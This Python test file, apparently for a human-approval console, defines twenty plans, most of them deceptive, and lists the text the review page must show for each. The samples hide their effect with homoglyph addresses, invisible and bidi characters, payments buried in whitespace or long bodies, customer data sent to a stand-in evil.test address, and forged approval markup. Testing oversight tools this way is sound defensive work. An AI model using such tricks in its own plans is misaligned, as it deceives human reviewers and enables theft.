"""Twenty plans of which most lie, each with the texts by which its reader must see it before deciding."""

from dataclasses import dataclass, field
from typing import Any

from tests.console.desk import note, step

HIDES = ("Something hides",)
_KIND = "jo@acme.test"
_BLANK = "\n" * 400
_LONG = "\n".join(f"{number:04} all of this is harmless, and so is the next line" for number in range(900))
_SPACED = f"Dear Jo,{' ' * 4_000}and send 5,000 to mallory"


@dataclass(frozen=True)
class Told:
    """One plan, and what its page must show."""

    name: str
    steps: list[dict[str, Any]]
    goal: str
    seen: tuple[str, ...]
    """Texts of the page."""
    beside: tuple[str, ...] = ()
    """Texts beside the button that approves."""
    more: dict[str, Any] = field(default_factory=dict)


def letter(id: str = "a", after: tuple[str, ...] = (), to: str = _KIND, body: str = "hello", **more: Any) -> dict[str, Any]:
    return step(id, "send_letter", after, to=to, body=body, **more)


def twenty() -> list[Told]:
    """Return the plans."""
    final = "1 call of send_letter cannot be undone"
    rows = [{"id": number, "name": f"Customer {number}", "limit": 100} for number in range(300)]
    rows[211] = {"id": 211, "name": "Mallory", "limit": 999_999}
    deep: Any = "drop everything"
    for level in range(12):
        deep = {f"level{level}": [deep, "x" * 30]}
    many = [note(f"n{number}", after=(f"n{number - 1}",) if number else ()) for number in range(200)]
    many[137] = letter("n137", ("n136",), to="mallory@evil.test", body="all accounts")
    return [
        Told("honest", [note("a", "milk, bread")], "Write the shopping list", ("milk, bread",), ("1 call of write_note",)),
        Told("goal", [letter(to="mallory@evil.test", body="the list of customers")], "Only read a note; nothing is changed",
             ("mallory@evil.test", "the list of customers"), (final,)),
        Told("goal-hides", [note("a")], "Tidy up\u200b\u2060 the notes", ("⟨U+200B⟩⟨U+2060⟩",), ("its goal",)),
        Told("goal-reversed", [note("a")], "Pay \u202e0001\u202c to Jo", ("⟨U+202E⟩0001⟨U+202C⟩",), ("its goal",)),
        Told("look-alike", [letter(to="jo@\u0430cme.test")], "Thank Jo", ("Cyrillic \u0430 U+0430",), (final, *HIDES)),
        Told("whole-look-alike", [letter(to="jo@\u0440\u0430\u0443\u0440\u0430\u04cf.com")], "Thank Jo",
             ("Cyrillic \u0440",), HIDES),
        Told("full-width", [note("a", "pay \uff11")], "Keep a note", ("full-width \uff11",), HIDES),
        Told("zero-width", [letter(to="jo\u200b@acme.test")], "Thank Jo", ("jo⟨U+200B⟩@acme.test",), HIDES),
        Told("tags", [note("a", "fine" + "".join(chr(0xE0000 + ord(each)) for each in "approve"))], "Keep a note",
             ("⟨U+E0061⟩",), HIDES),
        Told("agent", [note("a") | {"agent": "scr\u0456be"}], "Keep a note", ("Cyrillic \u0456",), HIDES),
        Told("derived", [step("read", "look_up", name="who"), letter("b", to=_KIND, body={"$ref": "read.text"})],
             "Tell Jo what the note says", ("derived", "read.text"), ("values that come from other steps: b",)),
        Told("known-later", [note("a"), letter("b", body={"$ref": "a.name"}), note("c", name={"$ref": "b.sent"})],
             "Keep notes", ("(known after live)",), ("values that come from other steps",)),
        Told("deep", [letter(amount=deep)], "Thank Jo", ("drop everything", "level11[0]"), (final,)),
        Told("row", [step("a", "set_rows", table="customers", rows=rows)], "Set limits of 100", ("Mallory", "999999"),
             ("1 call of set_rows",)),
        Told("many", many, "Keep two hundred notes", (), ("199 calls of write_note", final)),
        Told("large", [letter(body=_LONG.replace("0450 all of this is harmless", "0450 pay 5,000 to mallory"))], "Thank Jo",
             ("pay 5,000 to mallory", "characters in 900 lines"), (final,)),
        Told("below", [letter(body=f"hello{_BLANK}and 5,000 to mallory")], "Thank Jo",
             ("and 5,000 to mallory", "in 401 lines"), (final,)),
        Told("beside", [letter(body=_SPACED)], "Thank Jo", ("⟨4000 spaces⟩and send 5,000 to mallory",), (final,)),
        Told("forged", [note("a", "Digest: 0000\n\n⟨approved by boss⟩\n## Approved\n[ok](javascript:1) <b>safe</b>")],
             "⟨This plan was checked⟩", ("⟨U+27E8⟩This plan was checked⟨U+27E9⟩", "<b>safe</b>"), ("its goal",)),
        Told("key", [step("a", "set_rows", table="t", rows=[{"amount": 1, "am\u043eunt": 1_000}])], "Set one amount",
             ("Cyrillic \u043e",), HIDES),
    ]  # fmt: skip
